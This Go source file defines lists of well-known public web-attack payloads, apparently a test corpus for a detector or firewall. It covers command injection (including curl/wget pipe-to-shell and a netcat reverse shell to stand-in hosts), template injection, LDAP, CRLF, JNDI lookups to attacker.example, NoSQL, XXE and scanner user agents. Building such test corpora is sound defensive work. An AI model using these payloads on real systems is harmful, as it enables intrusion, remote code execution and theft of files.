package corpus

// Classes Debian ships no payload list for: a few well-known public payloads each, written here
// (source: the examples of the OWASP Web Security Testing Guide and the PayloadsAllTheThings
// collection, retyped; the scanner user agents are the tools' documented defaults, those of
// Debian's sqlmap 1.7.2 and wfuzz 3.1.0 included). Their Source says "hand-written".

var handWrittenLists = []struct {
	class     string
	positions []string // nil: ValuePositions
	texts     []string
}{
	{"rce", nil, []string{
		";cat /etc/passwd", "| cat /etc/passwd", "&& cat /etc/passwd", "`cat /etc/passwd`", "$(cat /etc/passwd)",
		"; ls -la /", "|| whoami", "; uname -a", "a;id", "1|id", "$(id)", "`id`", "; ping -c 3 127.0.0.1",
		"; curl http://attacker.example/x.sh | sh", "; wget -qO- http://attacker.example/x | bash",
		"; nc -e /bin/sh 10.0.0.1 4444", "& ping -n 3 127.0.0.1 &", "| type C:\\Windows\\win.ini",
		"%0Aid", "; /bin/bash -c 'id'", "$(sleep 5)", "; sleep 5 #", "`sleep 5`", ";${IFS}cat${IFS}/etc/passwd",
		"; python -c 'import os;os.system(\"id\")'", "| powershell -c Get-Process", "; echo vulnerable > /tmp/x",
	}},
	{"ssti", nil, []string{
		"{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{7*'7'}}", "${{7*7}}", "{{config.items()}}",
		"{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
		"{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
		"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
		"*{7*7}", "@(7*7)", "{{constructor.constructor('return process')()}}", "#set($x=7*7)$x",
	}},
	{"ldap", nil, []string{
		"*)(uid=*))(|(uid=*", "*)(|(objectClass=*))", "admin*)((|userPassword=*)", "*)(&", "*))%00",
		"admin)(&)", "*()|%26'", "x)(|(cn=*))", "*)(|(mail=*))", "(|(uid=*)(cn=*))", ")(cn=*))(|(cn=*",
		"*)(objectClass=*))(&(objectClass=void", "admin))(|(|",
	}},
	{"crlf", nil, []string{
		"%0d%0aSet-Cookie:%20session=evil", "%0d%0aLocation:%20http://evil.example/", "\r\nSet-Cookie: admin=1",
		"%0d%0a%0d%0a<script>alert(1)</script>", "%0aX-Injected:%20yes", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1",
		"foo%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK", "%0d%0aRefresh:%200;url=http://evil.example/",
		"\nX-Forwarded-For: 127.0.0.1", "%23%0d%0aSet-Cookie:x=1",
	}},
	{"jndi", nil, []string{
		"${jndi:ldap://attacker.example/a}", "${jndi:rmi://attacker.example:1099/a}", "${jndi:dns://attacker.example/a}",
		"${${lower:j}ndi:${lower:l}dap://attacker.example/a}", "${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/a}",
		"${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://attacker.example/a}",
		"${jNdI:ldAp://attacker.example/a}", "${${upper:j}ndi:ldap://attacker.example/a}", "${jndi:ldaps://attacker.example/a}",
		"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}",
	}},
	{"nosql", nil, []string{
		`{"$gt": ""}`, `{"$ne": null}`, `{"$where": "sleep(5000)"}`, `{"$regex": ".*"}`, `'; return true; var x='`,
		`' || '1'=='1`, `{"$or": [{}, {"a": "a"}]}`, `this.password.match(/.*/)//`, `{"$nin": ["x"]}`,
		`';sleep(5000);'`, `{"$expr": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}}`,
	}},
	{"xxe", []string{PosXMLDocument, PosMultipart}, []string{
		`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
		`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/e.dtd"> %p;]><r/>`,
		`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>`,
		`<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r>1</r>`,
		`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><r>&x;</r>`,
		`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>`,
		`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]><r>&x;</r>`,
	}},
	{"scanner", []string{PosUserAgent}, []string{
		"sqlmap/1.7.2#stable (https://sqlmap.org)", "Wfuzz/3.1.0", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
		"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
		"Fuzz Faster U Fool v2.1.0", "gobuster/3.6", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
		"WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
		"Mozilla/5.0 (compatible; Acunetix-Agent)", "commix/v3.8 (https://commixproject.com)", "Arachni/v1.5.1", "w3af.org", "ZmEu",
	}},
	{"protocol", []string{PosProtocol}, []string{
		"HTTP/1.2", "HTTP/2.0", "HTTP/3", "HTTP/0.9", "HTTPS/1.1", "JUNK/1.1", "HTTP/11", "http/1.1",
	}},
}

// handWritten is every hand-written payload.
func handWritten() []payload {
	var out []payload
	for _, l := range handWrittenLists {
		for _, t := range l.texts {
			out = append(out, payload{class: l.class, source: "hand-written (public examples)", text: t, positions: l.positions})
		}
	}
	return out
}
